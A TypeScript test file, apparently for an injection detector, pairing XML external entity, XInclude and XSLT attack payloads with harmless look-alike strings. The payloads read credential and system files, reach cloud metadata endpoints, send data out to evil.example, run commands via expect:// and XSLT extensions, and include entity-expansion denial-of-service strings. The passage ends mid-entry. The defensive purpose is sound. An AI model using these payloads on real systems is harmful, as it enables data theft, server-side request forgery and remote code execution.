import type { FamilyCases } from "./mod.ts";

/** Cases of the family `xxe`. */
export const cases: FamilyCases = {
  pairs: [
    [
      '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
      '<?xml version="1.0"?><foo>the system file</foo>',
    ],
    ['<!DOCTYPE r SYSTEM "http://evil.example/x.dtd">', "<!DOCTYPE html>"],
    [
      '<!ENTITY % dtd SYSTEM "http://evil.example/x.dtd">',
      "an entity of the system, see example.org/x.dtd",
    ],
    ['<xi:include href="file:///etc/passwd"/>', "<include>chapter 1</include>"],
    [
      '<!DOCTYPE r [<!ENTITY a SYSTEM "file:///c:/windows/win.ini">]><r>&a;</r>',
      "<r><a>windows</a></r>",
    ],
    ['<!DOCTYPE r [<!ENTITY a SYSTEM "file:///c:/boot.ini">]><r>&a;</r>', '<r a="boot">ini</r>'],
    ['<!DOCTYPE r [<!ENTITY a SYSTEM "file:///dev/random">]><r>&a;</r>', "<r>a random device</r>"],
    [
      '<!DOCTYPE r [<!ENTITY a SYSTEM "file:///proc/self/environ">]><r>&a;</r>',
      "<r>the environment of a process</r>",
    ],
    ['<!DOCTYPE r [<!ENTITY a SYSTEM "/etc/passwd">]><r>&a;</r>', "<r>passwords are hashed</r>"],
    [
      "<!DOCTYPE r [<!ENTITY a SYSTEM 'file:///etc/shadow'>]><r>&a;</r>",
      "<r>a shadow on the wall</r>",
    ],
    [
      '<!DOCTYPE r [<!ENTITY a SYSTEM "http://169.254.169.254/latest/meta-data/">]><r>&a;</r>',
      "<r>latest meta data</r>",
    ],
    [
      '<!DOCTYPE r [<!ENTITY a SYSTEM "http://localhost:8080/admin">]><r>&a;</r>',
      "<r>admin on port 8080</r>",
    ],
    [
      '<!DOCTYPE r [<!ENTITY a SYSTEM "http://10.0.0.5/internal">]><r>&a;</r>',
      "<r>internal 10.0.0.5</r>",
    ],
    [
      '<!DOCTYPE r [<!ENTITY a SYSTEM "https://evil.example/collect">]><r>&a;</r>',
      "<r>https://example.com/collect</r>",
    ],
    ['<!DOCTYPE r [<!ENTITY a SYSTEM "ftp://evil.example/x">]><r>&a;</r>', "<r>ftp is old</r>"],
    [
      '<!DOCTYPE r [<!ENTITY a SYSTEM "php://filter/convert.base64-encode/resource=index.php">]><r>&a;</r>',
      "<r>php filter and base64</r>",
    ],
    ['<!DOCTYPE r [<!ENTITY a SYSTEM "expect://id">]><r>&a;</r>', "<r>what we expect of an id</r>"],
    [
      '<!DOCTYPE r [<!ENTITY a SYSTEM "jar:http://evil.example/x.zip!/x.txt">]><r>&a;</r>',
      "<r>a jar of honey</r>",
    ],
    ['<!DOCTYPE r [<!ENTITY a SYSTEM "netdoc:///etc/passwd">]><r>&a;</r>', "<r>net and doc</r>"],
    [
      '<!DOCTYPE r [<!ENTITY a SYSTEM "gopher://evil.example:6379/_INFO">]><r>&a;</r>',
      "<r>a gopher digs</r>",
    ],
    [
      '<!DOCTYPE r [<!ENTITY a SYSTEM "dict://127.0.0.1:11211/stat">]><r>&a;</r>',
      "<r>a dict of stats</r>",
    ],
    [
      '<!DOCTYPE r [<!ENTITY a SYSTEM "ldap://evil.example/x">]><r>&a;</r>',
      "<r>ldap is a protocol</r>",
    ],
    [
      '<!DOCTYPE r [<!ENTITY a SYSTEM "data:text/plain;base64,SGVsbG8=">]><r>&a;</r>',
      "<r>data, text, plain</r>",
    ],
    ['<!DOCTYPE r [<!ENTITY a SYSTEM "phar:///tmp/x.phar">]><r>&a;</r>', "<r>far away</r>"],
    [
      '<!DOCTYPE r [<!ENTITY a SYSTEM "\\\\\\\\evil.example\\\\share\\\\x">]><r>&a;</r>',
      "<r>a network share</r>",
    ],
    [
      '<!DOCTYPE r [<!ENTITY a SYSTEM "../../../../etc/passwd">]><r>&a;</r>',
      "<r>../images/logo.png</r>",
    ],
    [
      '<!DOCTYPE r [<!ENTITY a PUBLIC "x" "file:///etc/passwd">]><r>&a;</r>',
      "<r>a public notice</r>",
    ],
    [
      '<!DOCTYPE r [<!ENTITY a PUBLIC "-//A//B//EN" "http://evil.example/x">]><r>&a;</r>',
      '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
    ],
    [
      '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>',
      "100% of the entities; see p. 5",
    ],
    [
      '<!DOCTYPE r [<!ENTITY % p SYSTEM "file:///etc/hostname"><!ENTITY % q "<!ENTITY &#37; s SYSTEM \'http://evil.example/?%p;\'>">%q;%s;]>',
      "the host name is in a file; 50% of hosts",
    ],
    [
      "<!ENTITY % all \"<!ENTITY send SYSTEM 'http://evil.example/?%file;'>\"> %all;",
      "send all files to the archive; 10% are lost",
    ],
    [
      '<!ENTITY % payload SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/passwd">',
      "the payload of a satellite, in % of mass",
    ],
    [
      "<!ENTITY % int \"<!ENTITY &#37; trick SYSTEM 'http://evil.example/%p1;'>\">",
      "an int is a number, % is modulo",
    ],
    [
      '<!DOCTYPE r [<!ENTITY % remote SYSTEM "//evil.example/e.dtd">%remote;]><r/>',
      "a remote job, 100% paid",
    ],
    [
      '<!DOCTYPE r SYSTEM "//evil.example/e.dtd"><r/>',
      '<!DOCTYPE html SYSTEM "about:legacy-compat">',
    ],
    [
      '<!DOCTYPE r PUBLIC "x" "http://evil.example/e.dtd"><r/>',
      '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
    ],
    [
      '<!DOCTYPE r PUBLIC "-//VSR//PENTEST//EN" "http://evil.example/x"><r/>',
      '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">',
    ],
    [
      '<!DOCTYPE r PUBLIC "-//B/A/EN" "file:///etc/issue"><r/>',
      '<!DOCTYPE web-app PUBLIC "-//Sun Microsystems, Inc.//DTD Web Application 2.3//EN" "http://java.sun.com/dtd/web-app_2_3.dtd">',
    ],
    [
      '<!DOCTYPE html SYSTEM "http://evil.example/html.dtd">',
      '<!doctype html><html lang="en"></html>',
    ],
    ['<!DOCTYPE :. SYSTEM "http://evil.example/">', ":. is a sign"],
    ['<!DOCTYPE _ SYSTEM "http://evil.example/_">', "_ is an underscore"],
    [
      '<!DOCTYPE r SYSTEM "file:///c:/windows/system32/drivers/etc/hosts">',
      "system32 has the drivers",
    ],
    ['<!DOCTYPE r SYSTEM "jar:file:///var/x.jar!/x">', "a jar of files"],
    [
      '<!doctype r system "http://evil.example/x">',
      '<!doctype html public "-//W3C//DTD HTML 4.01//EN">',
    ],
    ['<!DOCTYPE\nr\nSYSTEM\n"http://evil.example/x">', "<!DOCTYPE\nhtml>"],
    ['<!DOCTYPE\tr\tSYSTEM\t"http://evil.example/x">', "<!DOCTYPE\thtml>"],
    [
      '<!DOCTYPE r [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><r>&c;</r>',
      "lol lol lol &amp; lol &amp; lol",
    ],
    ['<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;">', "&lt;&lt;&lt; lol &gt;&gt;&gt;"],
    [
      '<!DOCTYPE r [<!ENTITY a0 "dos"><!ENTITY a1 "&a0;&a0;&a0;"><!ENTITY a2 "&a1;&a1;">]>',
      "uno &amp; dos &amp; tres",
    ],
    ['<!DOCTYPE r [<!ENTITY % a "x"><!ENTITY % b "%a;%a;%a;">%b;]>', "5%; 10%; 15%; of x"],
    [
      '<!DOCTYPE replace [<!ENTITY example "Doe">]><u><n>&example;</n></u>',
      "<u><n>John Doe</n></u>",
    ],
    ['<!DOCTYPE r [<!ENTITY x "test">]><r>&x;</r>', '<!DOCTYPE html [<!ENTITY nbsp "&#160;">]>'],
    ['<!DOCTYPE r [<!ENTITY a "<script>alert(1)</script>">]><r>&a;</r>', "<r>a script</r>"],
    [
      '<!DOCTYPE r [<!ENTITY a "&#60;svg onload=alert(1)&#62;">]><r>&a;</r>',
      '<!DOCTYPE r [<!ENTITY copy "&#169;">]>',
    ],
    [
      '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]><svg><text>&x;</text></svg>',
      '<!DOCTYPE svg [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]>',
    ],
    [
      '<!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
      "the foo element may hold any text",
    ],
    ["<!DOCTYPE foo [<!ELEMENT foo ANY>", "<foo>any element</foo>"],
    ["<!DOCTYPE foo [", "foo [bar] baz"],
    ['<!DOCTYPE a [<!NOTATION n SYSTEM "file:///etc/passwd">]>', "musical notation of the system"],
    ['<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd" NDATA n>]>', "<a><b>n data</b></a>"],
    [
      '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
      '<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>News</title></channel></rss>',
    ],
    [
      '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE foo+AFs +ADwAIQ-ELEMENT foo ANY +AD4',
      '<?xml version="1.0" encoding="UTF-8"?><foo>any</foo>',
    ],
    ['<?xml version="1.0" encoding="utf-7" ?><r/>', '<?xml version="1.0" encoding="utf-16"?><r/>'],
    [
      '<?xml version="1.0" encoding="cp037"?><r/>',
      '<?xml version="1.0" encoding="ISO-8859-1"?><r/>',
    ],
    ["+ADw-+ACE-DOCTYPE r SYSTEM +ACI-http://evil.example+ACI-+AD4-", "+49-30-1234 doctype"],
    [
      '<xi:include href="http://evil.example/x" parse="text"/>',
      '<include name="x" parse="false"/>',
    ],
    [
      '<xi:include parse="text" href="file:///etc/passwd" xmlns:xi="http://www.w3.org/2001/XInclude"/>',
      "the namespace http://www.w3.org/2001/XInclude is for inclusions",
    ],
    [
      '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hosts"/></foo>',
      '<foo xmlns:x="http://www.w3.org/1999/xhtml"><x:p>hosts</x:p></foo>',
    ],
    [
      '<a:include xmlns:a="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>',
      '<a:item xmlns:a="http://www.w3.org/2005/Atom" href="https://example.com/1"/>',
    ],
    [
      '<include xmlns="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/>',
      '<include layout="@layout/toolbar" />',
    ],
    [
      '<xi:include href="php://filter/convert.base64-encode/resource=config.php"/>',
      "include the config.php resource",
    ],
    ['<xi:include href="expect://id"/>', "xi is a Greek letter, as expected"],
    ['<xi:include href="../../../etc/passwd" parse="text"/>', "please include ../docs/readme.txt"],
    ['<xi:include href="c:\\windows\\win.ini" parse="text"/>', "include c:\\windows in the scan"],
    [
      '<xi:include href="https://evil.example/xi.xml"><xi:fallback/></xi:include>',
      "<fallback>include https://example.com</fallback>",
    ],
    [
      '<x><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="jar:file:///x.jar!/y"/></x>',
      "<x>include a jar</x>",
    ],
    ["<xsl:value-of select=\"document('file:///etc/passwd')\"/>", '<xsl:value-of select="title"/>'],
    ["<xsl:copy-of select=\"document('/etc/passwd')\"/>", '<xsl:copy-of select="node()"/>'],
    [
      "<xsl:copy-of select=\"document('http://evil.example/')\"/>",
      '<xsl:for-each select="catalog/cd"><td/></xsl:for-each>',
    ],
    [
      "<xsl:value-of select=\"unparsed-text('/etc/passwd', 'utf-8')\"/>",
      "<xsl:text>unparsed text</xsl:text>",
    ],
    ["<xsl:value-of select=\"system-property('xsl:vendor')\"/>", '<xsl:value-of select="vendor"/>'],
    [
      "<xsl:value-of select=\"php:function('passthru','id')\"/>",
      "<xsl:value-of select=\"format-number(price, '0.00')\"/>",
    ],
    [
      "<xsl:value-of select=\"php:function('file_get_contents','/etc/passwd')\"/>",
      "the php function file_get_contents reads a file",
    ],
    ['<xsl:include href="http://evil.example/x.xsl"/>', '<xsl:include href="common.xsl"/>'],
    ['<xsl:import href="file:///etc/passwd"/>', '<xsl:import href="layout.xsl"/>'],
    ['<xsl:include href="//evil.example/x.xsl"/>', '<xsl:output method="html" indent="yes"/>'],
    [
      '<xsl:variable name="x" select="document(\'file:///etc/hosts\')"/>',
      '<xsl:variable name="x" select="@id"/>',
    ],
    [
      '<xsl:value-of select="rt:exec($rtobject,\'id\')" xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"/>',
      "<xsl:value-of select=\"concat(first,' ',last)\"/>",
    ],
    [
      '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime" version="1.0">',
      '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">',
    ],
    ['<xsl:stylesheet xmlns:php="http://php.net/xsl" version="1.0">', "php.net has a page on xsl"],
    [
      '<msxsl:script language="C#" implements-prefix="user">public string x(){return "";}</msxsl:script>',
      "the msxsl script is written in C#",
    ],
    [
      '<exsl:document href="/var/www/x.php" method="text">x</exsl:document>',
      "a document in text form, method x",
    ],
    [
      '<xsl:result-document href="file:///tmp/x"><a/></xsl:result-document>',
      "the result document is in /tmp",
    ],
    [
      '<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?><r/>',
      '<?xml-stylesheet type="text/xsl" href="/rss.xsl"?><r/>',
    ],
    [
      '<?xml-stylesheet type="text/xsl" href="file:///etc/passwd"?>',
      '<?xml-stylesheet type="text/css" href="style.css"?>',
    ],
    [
      '<?xml-stylesheet href="//evil.example/x.xsl" type="text/xsl"?>',
      "the stylesheet is of type text/xsl",
    ],
    [
      '<svg><image xlink:href="expect://ls"></image></svg>',
      '<svg><image href="ls.png" width="1" height="1"/></svg>',
    ],
    [
      '<svg><image xlink:href="file:///etc/passwd"/></svg>',
      '<svg viewBox="0 0 9 9"><path d="M0 0h9"/></svg>',
    ],
    [
      '<svg><image xlink:href="text:/etc/passwd" width="9"/></svg>',
      '<svg><text x="1">etc</text></svg>',
    ],
    ['<image xlink:href="msl:/tmp/x.msl"/>', "the image is 100 m above msl"],
    ['<image href="php://filter/resource=/etc/passwd"/>', "an image filter in php"],
    [
      '<a xsi:noNamespaceSchemaLocation="file:///etc/passwd"/>',
      '<a xsi:noNamespaceSchemaLocation="note.xsd"/>',
    ],
    [
      '<a xsi:schemaLocation="http://a.example file:///etc/passwd"/>',
      '<project xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd">',
    ],
    [
      '<r xsi:schemaLocation="http://a.example/ http://evil.example.net/x.xsd">x</r>',
      '<urlset xsi:schemaLocation="http://www.sitemaps.org/schemas/sitemap/0.9 http://www.sitemaps.org/schemas/sitemap/0.9/sitemap.xsd">',
    ],
    [
      '<soap:Body><foo><![CDATA[<!DOCTYPE doc [<!ENTITY % dtd SYSTEM "http://evil.example/"> %dtd;]><x/>]]></foo></soap:Body>',
      "<soap:Body><m:GetPrice><m:Item>Apples</m:Item></m:GetPrice></soap:Body>",
    ],
    [
      '<soap:Envelope><soap:Body><!DOCTYPE r SYSTEM "http://evil.example/"></soap:Body></soap:Envelope>',
      '<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body/></soap:Envelope>',
    ],
    [
      '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><methodCall><methodName>&e;</methodName></methodCall>',
      "<methodCall><methodName>demo.sayHello</methodName><params/></methodCall>",
    ],
    [
      '<!DOCTYPE w:document [<!ENTITY e SYSTEM "http://evil.example/docx">]><w:document>&e;</w:document>',
      "<w:document><w:body><w:p/></w:body></w:document>",
    ],
    [
      '<!DOCTYPE cp:coreProperties [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
      "<cp:coreProperties><dc:title>Report</dc:title></cp:coreProperties>",
    ],
    [
      '<!DOCTYPE gpx [<!ENTITY e SYSTEM "file:///etc/passwd">]><gpx><name>&e;</name></gpx>',
      "<gpx><trk><name>Run</name></trk></gpx>",
    ],
    [
      '<!DOCTYPE kml SYSTEM "http://evil.example/k.dtd">',
      "<kml><Placemark><name>Home</name></Placemark></kml>",
    ],
    [
      '<!DOCTYPE rss [<!ENTITY e SYSTEM "file:///etc/passwd">]><rss><title>&e;</title></rss>',
      '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">',
    ],
    [
      '<!DOCTYPE Response [<!ENTITY s SYSTEM "http://evil.example/saml">]><Response>&s;</Response>',
      '<samlp:Response ID="x"><saml:Issuer>idp</saml:Issuer></samlp:Response>',
    ],
    [
      '<!DOCTYPE plist [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
      '<plist version="1.0"><dict><key>a</key><string>b</string></dict></plist>',
    ],
    [
      '<!DOCTYPE D:propfind [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
      '<D:propfind xmlns:D="DAV:"><D:allprop/></D:propfind>',
    ],
    [
      '<!DOCTYPE log4j:configuration SYSTEM "http://evil.example/log4j.dtd">',
      '<!DOCTYPE log4j:configuration SYSTEM "log4j.dtd">',
    ],
    [
      '<!DOCTYPE properties SYSTEM "http://evil.example/properties.dtd">',
      '<!DOCTYPE properties SYSTEM "http://java.sun.com/dtd/properties.dtd">',
    ],
    [
      '<!DOCTYPE mapper SYSTEM "ftp://evil.example/m.dtd">',
      '<!DOCTYPE mapper PUBLIC "-//mybatis.org//DTD Mapper 3.0//EN" "http://mybatis.org/dtd/mybatis-3-mapper.dtd">',
    ],
    [
      '<!DOCTYPE hibernate-configuration SYSTEM "file:///etc/passwd">',
      '<!DOCTYPE hibernate-configuration PUBLIC "-//Hibernate/Hibernate Configuration DTD 3.0//EN" "http://www.hibernate.org/dtd/hibernate-configuration-3.0.dtd">',
    ],
    [
      '<!DOCTYPE module SYSTEM "https://evil.example/c.dtd">',
      '<!DOCTYPE module PUBLIC "-//Checkstyle//DTD Checkstyle Configuration 1.3//EN" "https://checkstyle.org/dtds/configuration_1_3.dtd">',
    ],
    [
      '<!DOCTYPE struts SYSTEM "gopher://evil.example/">',
      '<!DOCTYPE struts PUBLIC "-//Apache Software Foundation//DTD Struts Configuration 2.5//EN" "http://struts.apache.org/dtds/struts-2.5.dtd">',
    ],
    [
      '<!DOCTYPE book SYSTEM "file:///home/user/.ssh/id_rsa">',
      '<!DOCTYPE book PUBLIC "-//OASIS//DTD DocBook XML V4.5//EN" "http://www.oasis-open.org/docbook/xml/4.5/docbookx.dtd">',
    ],
    ['<!DOCTYPE note SYSTEM "http://127.0.0.1:22/">', '<!DOCTYPE note SYSTEM "Note.dtd">'],
    [
      '<!DOCTYPE html [<!ENTITY x SYSTEM "http://evil.example/">]>',
      '<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN" "http://www.w3.org/TR/html4/loose.dtd">',
    ],
    [
      "%3C!DOCTYPE%20r%20%5B%3C!ENTITY%20x%20SYSTEM%20%22file%3A%2F%2F%2Fetc%2Fpasswd%22%3E%5D%3E",
      "%3C!DOCTYPE%20html%3E",
    ],
    [
      "&lt;!DOCTYPE r [&lt;!ENTITY x SYSTEM &quot;file:///etc/passwd&quot;&gt;]&gt;",
      "&lt;!DOCTYPE html&gt;",
    ],
    ['\\u003c!DOCTYPE r SYSTEM "http://evil.example/"\\u003e', "\\u003c!DOCTYPE html\\u003e"],
    ['\\x3c!ENTITY x SYSTEM "file:///etc/passwd"\\x3e', "\\x3c is the sign for less"],
    ["&#x3c;!ENTITY x SYSTEM &#x22;file:///etc/passwd&#x22;&#x3e;", "&#x3c; and &#x3e; are signs"],
    [
      "PCFET0NUWVBFIHIgWzwhRU5USVRZIHggU1lTVEVNICJmaWxlOi8vL2V0Yy9wYXNzd2QiPl0+",
      "PHJzcyB2ZXJzaW9uPSIyLjAiPjxjaGFubmVsPjwvY2hhbm5lbD48L3Jzcz4=",
    ],
    ["<foo>&xxe;</foo>", "<foo>&amp;</foo>"],
    ["<data>&file;</data>", "<data>&copy; 2024</data>"],
    [
      "<change-log><text>&systemEntity;</text></change-log>",
      "<change-log><text>&quot;Hello&quot;</text></change-log>",
    ],
    ["<r>%remote;</r>", "<r>50% remote</r>"],
    ['<!ENTITY xxe SYSTEM "file:///etc/passwd" >', "the file of an entity"],
    ['<!ENTITY  xxe  SYSTEM  "file:///etc/passwd">', "two  spaces  in  a  row"],
    ["<!ENTITY xxe SYSTEM 'file:///etc/passwd'>", "'single' quotes of a file"],
    ["<!ENTITY xxe PUBLIC 'x' 'http://evil.example/'>", "'public' and 'private' keys"],
    ['<!ENTITY\\txxe\\tSYSTEM\\t"file:///etc/passwd">', "entity\\tsystem\\tfile"],
    ["<!ENTITY % xxe \"<!ENTITY y SYSTEM 'file:///etc/passwd'>\">", "% of y in the file"],
    [
      '<!ENTITY % a SYSTEM "file:///etc/passwd"><!ENTITY % b "<!ENTITY c SYSTEM \'ftp://evil.example/%a;\'>">',
      "a, b and c: 10 %; files",
    ],
    [
      '<!DOCTYPE r [ <!ENTITY % a SYSTEM "file:///c:/inetpub/wwwroot/web.config"> ]>',
      "the web.config lies in wwwroot",
    ],
    ['<!DOCTYPE r[<!ENTITY x SYSTEM "file:///etc/passwd">]>', "r[0] and x[1]"],
    ['<!DOCTYPE r  [  <!ENTITY x SYSTEM "file:///etc/passwd">  ]  >', "r  [  x  ]  y"],
    ['<!DOCTYPE r [<!-- c --><!ENTITY x SYSTEM "file:///etc/passwd">]>', "<!-- a comment --><r/>"],
    ['<!DOCTYPE r [<?pi x?><!ENTITY x SYSTEM "file:///etc/passwd">]>', "<?pi x?><r/>"],
    ['<!DOCTYPE r SYSTEM "http://evil.example/a.dtd" [<!ENTITY x "y">]>', "a.dtd and b.dtd differ"],
    [
      '<!DOCTYPE r PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "file:///etc/passwd">',
      '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML Basic 1.1//EN" "http://www.w3.org/TR/xhtml-basic/xhtml-basic11.dtd">',
    ],
    [
      '<!DOCTYPE doc [<!ENTITY % ISOamso SYSTEM "file:///usr/share/xml/fontconfig/fonts.dtd"> %ISOamso;]>',
      '<!DOCTYPE fontconfig SYSTEM "fonts.dtd">',
    ],
    [
      '<!DOCTYPE message [<!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd"> %local_dtd;]>',
      "a local DTD is found under share",
    ],
    [
      "<!ENTITY % expr 'aaa)><!ENTITY &#x25; file SYSTEM \"file:///etc/passwd\"><!ELEMENT aa (bb'>",
      "an expr is (aaa) > (bb)",
    ],
    [
      "<!ENTITY &#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>",
      "error: the file is nonexistent &#x2014; 5%",
    ],
    [
      '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example:443/?p=1"> %x; ]>',
      "port 443 is open, x = 1",
    ],
    ['<!DOCTYPE r [<!ENTITY x SYSTEM "http://[::1]:80/">]>', "[::1] is the loopback"],
    ['<!DOCTYPE r [<!ENTITY x SYSTEM "http://0x7f000001/">]>', "0x7f000001 is a number"],
    ['<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd?">]>', "password? no idea"],
    ['<!DOCTYPE r [<!ENTITY x SYSTEM "file:/etc/passwd">]>', "a file of etc. is short"],
    ['<!DOCTYPE r [<!ENTITY x SYSTEM "file://localhost/etc/passwd">]>', "localhost is home"],
    ['<!DOCTYPE r [<!ENTITY x SYSTEM "FILE:///ETC/PASSWD">]>', "FILE, EDIT, VIEW, HELP"],
    ['<!DoCtYpE r [<!EnTiTy x SyStEm "file:///etc/passwd">]>', "<!DoCtYpE hTmL>"],
    ['<!DOCTYPE r [<!ENTITY x SYSTEM "compress.zlib:///etc/passwd">]>', "compress with zlib"],
    ['<!DOCTYPE r [<!ENTITY x SYSTEM "zip:///tmp/a.zip#b">]>', "a zip in tmp"],
    ['<!DOCTYPE r [<!ENTITY x SYSTEM "tftp://evil.example/a">]>', "tftp boots it"],
    ['<!DOCTYPE r [<!ENTITY x SYSTEM "sftp://evil.example:11111/">]>', "sftp is on port 22"],
    ['<!DOCTYPE r [<!ENTITY x SYSTEM "smb://evil.example/share">]>', "smb is a share"],
    ['<!DOCTYPE r [<!ENTITY x SYSTEM "c:/windows/win.ini">]>', "c:/windows is a path"],
    ['<!DOCTYPE r [<!ENTITY x SYSTEM "config/database.yml">]>', "config/database.yml is ours"],
    [
      '{"xml":"<!DOCTYPE r [<!ENTITY x SYSTEM \'file:///etc/passwd\'>]><r>&x;</r>"}',
      '{"xml":"<r><x>1</x></r>"}',
    ],
    ["data=<!DOCTYPE r SYSTEM 'http://evil.example/x'>", "data=<r>1</r>"],
    [
      'hello <!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]> world',
      "hello <b>doctype</b> world",
    ],
    ['<r><!ENTITY x SYSTEM "file:///etc/passwd"></r>', "<r><entity>x</entity></r>"],
    [
      '<?xml version="1.0" standalone="no"?><!DOCTYPE r SYSTEM "http://evil.example/r.dtd"><r/>',
      '<?xml version="1.0" standalone="yes"?><r/>',
    ],
    [
      '<?xml version="1.1"?><!DOCTYPE r [<!ENTITY x SYSTEM "php://input">]><r>&x;</r>',
      '<?xml version="1.1"?><r>input</r>',
    ],
    [
      '<!DOCTYPE r [<!ATTLIST r a CDATA "x"><!ENTITY e SYSTEM "file:///etc/passwd">]>',
      "a list of attributes: CDATA, ID, NMTOKEN",
    ],
    ['<!DOCTYPE r [<!ENTITY e SYSTEM "http://evil.example/" >]><r a="&e;"/>', '<r a="&quot;"/>'],
    ['<!DOCTYPE r [<!ENTITY exfil SYSTEM "http://evil.example/?x=%file;">]>', "x = file; y = 5%"],
    [
      '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="xml"/></x>',
      '<x xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="#b"/></x>',
    ],
    [
      '<p:input xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="http://evil.example/"/></p:input>',
      '<p:input port="source"><p:document href="doc.xml"/></p:input>',
    ],
    [
      'productId=<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>&storeId=1',
      "productId=381&storeId=29",
    ],
    [
      '<xsl:template match="/"><xsl:value-of select="document(\'/etc/passwd\')"/></xsl:template>',
      '<xsl:template match="/"><xsl:apply-templates/></xsl:template>',
    ],
    [
      "<xsl:value-of select=\"file:read(file:new('/etc/passwd'))\"/>",
      '<xsl:value-of select="string-length(name)"/>',
    ],
    [
      '<xsl:value-of select="java:java.lang.Runtime.getRuntime()"/>',
      '<xsl:if test="price &gt; 10"><b/></xsl:if>',
    ],
    [
      '<xsl:value-of xmlns:date="http://xml.apache.org/xalan/java/java.util.Date" select="date:new()"/>',
      '<xsl:value-of select="@date"/>',
    ],
    [
      "<xsl:for-each select=\"document('ftp://evil.example/')/a\"/>",
      '<xsl:for-each select="item"><li/></xsl:for-each>',
    ],
    [
      '<redirect:write file="/tmp/x" xmlns:redirect="http://xml.apache.org/xalan/redirect">x</redirect:write>',
      "redirect and write to file x",
    ],
    [
      '<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "https://evil.example/m"> %xxe;]><stockCheck><productId>1</productId></stockCheck>',
      "<stockCheck><productId>1</productId></stockCheck>",
    ],
    [
      "<!DOCTYPE a [<!ENTITY b \"&#x3c;!ENTITY c SYSTEM 'file:///etc/passwd'>\">]>",
      "&#x3c;a&#x3e; is how to write a tag",
    ],
    ['<!ENTITY js SYSTEM "javascript:alert(1)">', "js is a language"],
    [
      '<!DOCTYPE r [<!ENTITY a SYSTEM "classpath:application.properties">]>',
      "the classpath has application.properties",
    ],
    [
      '<!DOCTYPE test [<!ENTITY % init SYSTEM "data://text/plain;base64,ZmlsZQ=="> %init; ]><foo/>',
      "init the data; test it",
    ],
    ['<!DOCTYPE r [<!ENTITY x SYSTEM "http://evil.example/">', "r [x] system"],
    ['<!DOCTYPE r SYSTEM "http://evil.example/', 'r system "example'],
    ['<!ENTITY x SYSTEM "file:///etc/passwd', 'x system "file'],
    [
      '<!DOCTYPE r [<!ENTITY % d SYSTEM "http://evil.example/d.dtd">%d;%e;]><r>&f;</r>',
      "d, e and f make 100%; see r",
    ],
    [
      '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;">]><lolz>&lol1;</lolz>',
      "<lolz>lol lol lol lol</lolz>",
    ],
    [
      '<!DOCTYPE kaboom [<!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaa">]><kaboom>&a;&a;&a;</kaboom>',
      "<kaboom>aaaaaaaaaaaaaaaaaaaaaaaaaaaa</kaboom>",
    ],
    [
      '<!DOCTYPE r [<!ENTITY x SYSTEM "http://metadata.google.internal/computeMetadata/v1/">]><r>&x;</r>',
      "<r>compute, meta and data</r>",
    ],
    [
      '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///var/run/secrets/kubernetes.io/serviceaccount/token">]>',
      "<r>a service account token of kubernetes.io</r>",
    ],
    [
      '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///root/.aws/credentials">]>',
      "<r>credentials are kept by root</r>",
    ],
    [
      '<xi:include href="http://169.254.169.254/latest/user-data" parse="text"/>',
